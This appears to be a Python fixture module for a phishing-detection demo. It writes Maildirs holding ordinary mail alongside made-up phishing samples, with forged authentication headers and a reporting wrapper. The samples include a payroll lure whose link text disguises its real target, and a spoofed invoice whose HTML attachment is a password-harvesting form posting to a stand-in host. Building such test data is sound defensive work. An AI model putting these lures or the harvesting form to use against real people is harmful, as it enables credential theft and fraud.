"""Build the sample organisation: Maildirs with legitimate mail and phishing copies."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.headerregistry import Address as HeaderAddress
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

ORG_DOMAIN = "example.org"
MAILBOXES = (
    "alice@example.org",
    "bob@example.org",
    "carol@example.org",
    "dave@example.org",
)
RECEIVER = "mx.example.org"

PAYROLL_URL = "https://payroll-example.test/login/verify?id=7731"
DOCS_URL = "http://docs-share.example/file/Q3-report"
INTEL_FEED = f"# sample phishing feed written by heron's demo\n{PAYROLL_URL}\n"


@dataclass(frozen=True)
class SampleMessage:
    """One made-up message and the mailboxes that hold a copy."""

    key: str
    raw: bytes
    recipients: tuple[str, ...]
    folder: str = ""


def _message(
    key: str,
    *,
    sender: str,
    display: str,
    to: list[str],
    subject: str,
    text: str,
    html: str | None = None,
    auth: str,
    ip: str,
    reply_to: str | None = None,
    envelope: str | None = None,
    day: int = 1,
) -> EmailMessage:
    message = EmailMessage()
    when = datetime(2026, 11, day, 9, 30, tzinfo=UTC)
    message["Return-Path"] = f"<{envelope or sender}>"
    message["Authentication-Results"] = f"{RECEIVER}; {auth}"
    message["Received"] = (
        f"from mail.{sender.split('@')[1]} (mail.{sender.split('@')[1]} [{ip}]) "
        f"by {RECEIVER} with ESMTPS; {format_datetime(when)}"
    )
    message["From"] = HeaderAddress(display_name=display, addr_spec=sender)
    message["To"] = ", ".join(to)
    if reply_to:
        message["Reply-To"] = reply_to
    message["Subject"] = subject
    message["Date"] = format_datetime(when)
    message["Message-ID"] = f"<{key}.20261101@{sender.split('@')[1]}>"
    message.set_content(text)
    if html:
        message.add_alternative(html, subtype="html")
    return message


def _payroll_phish() -> EmailMessage:
    return _message(
        "payroll",
        sender="hr-notice@payroll-example.test",
        display="Example HR Payroll",
        to=list(MAILBOXES[:3]),
        subject="Action required: confirm your salary account",
        text=f"Your salary payment is on hold. Confirm your account at {PAYROLL_URL} today.",
        html=(
            f'<p>Your salary payment is on hold.</p><p><a href="{PAYROLL_URL}">'
            "https://hr.example.org/payroll</a></p>"
        ),
        auth="spf=fail smtp.mailfrom=payroll-example.test; dkim=none; dmarc=fail "
        "header.from=payroll-example.test",
        ip="192.0.2.44",
        reply_to="payroll-desk@mailbox.example",
        day=2,
    )


def _invoice_phish() -> EmailMessage:
    message = _message(
        "invoice",
        sender="billing@example.org",
        display="Accounts <accounts@example.org>",
        envelope="bounce@docs-share.example",
        to=[MAILBOXES[1], MAILBOXES[3]],
        subject="Overdue invoice 4471",
        text=f"Please see the attached invoice, also at {DOCS_URL}.",
        auth="spf=pass smtp.mailfrom=docs-share.example; dkim=none; dmarc=fail "
        "header.from=example.org",
        ip="198.51.100.7",
        day=3,
    )
    page = (
        b"<html><body><form action='http://docs-share.example/collect' method='post'>"
        b"<input type='password' name='p'></form></body></html>"
    )
    message.add_attachment(
        page, maintype="text", subtype="html", filename="invoice_4471.pdf.html"
    )
    return message


def _newsletter() -> EmailMessage:
    return _message(
        "newsletter",
        sender="news@mail.cityweekly.test",
        display="Example Weekly",
        to=list(MAILBOXES),
        subject="This week at Example: the new office opens",
        text="The new office opens on Monday. Read more at https://www.cityweekly.test/news/office",
        auth="spf=pass smtp.mailfrom=mail.cityweekly.test; dkim=pass header.d=cityweekly.test; "
        "dmarc=pass header.from=mail.cityweekly.test",
        ip="203.0.113.20",
        day=1,
    )


def _colleague() -> EmailMessage:
    return _message(
        "lunch",
        sender="dave@example.org",
        display="Dave",
        to=[MAILBOXES[0]],
        subject="Lunch on Friday?",
        text="Shall we try the new place on Friday at noon?",
        auth="spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; "
        "dmarc=pass header.from=example.org",
        ip="192.0.2.10",
        day=4,
    )


def sample_messages() -> list[SampleMessage]:
    """The organisation's mail: two phishing campaigns and legitimate mail."""
    made = [
        ("payroll", _payroll_phish(), ""),
        ("invoice", _invoice_phish(), ""),
        ("newsletter", _newsletter(), ""),
        ("lunch", _colleague(), ""),
    ]
    result = []
    for key, message, folder in made:
        if message.is_multipart():
            message.set_boundary(f"==heron-sample-{key}==")
        recipients = tuple(a.strip() for a in str(message["To"]).split(","))
        result.append(SampleMessage(key, bytes(message), recipients, folder))
    return result


def user_report(reporter: str, original: bytes) -> bytes:
    """A report as a report mailbox receives it: the original attached as message/rfc822."""
    wrapper = EmailMessage()
    wrapper["From"] = reporter
    wrapper["To"] = f"phish-report@{ORG_DOMAIN}"
    wrapper["Subject"] = "Reported as phishing"
    wrapper["Date"] = format_datetime(datetime(2026, 11, 5, 10, 0, tzinfo=UTC))
    wrapper.set_content("I think this is phishing.")
    wrapper.add_attachment(message_from_bytes(original, policy=policy.default))
    wrapper.set_boundary("==heron-sample-report==")
    return bytes(wrapper)


def write_maildirs(root: Path) -> dict[str, Path]:
    """Write every mailbox as a Maildir under ``root``; returns mailbox → path."""
    paths = {}
    for mailbox in MAILBOXES:
        path = root / mailbox
        for sub in ("cur", "new", "tmp"):
            (path / sub).mkdir(parents=True, exist_ok=True)
        paths[mailbox] = path
    for sample in sample_messages():
        for recipient in sample.recipients:
            name = f"{1764000000 + len(sample.key)}.{sample.key}.{RECEIVER}:2,"
            target = paths[recipient] / "cur" / name
            if not target.exists() and not _already_moved(paths[recipient], name):
                target.write_bytes(sample.raw)
    return paths


def _already_moved(root: Path, name: str) -> bool:
    return any(p.name == name for p in root.glob(".*/cur/*"))
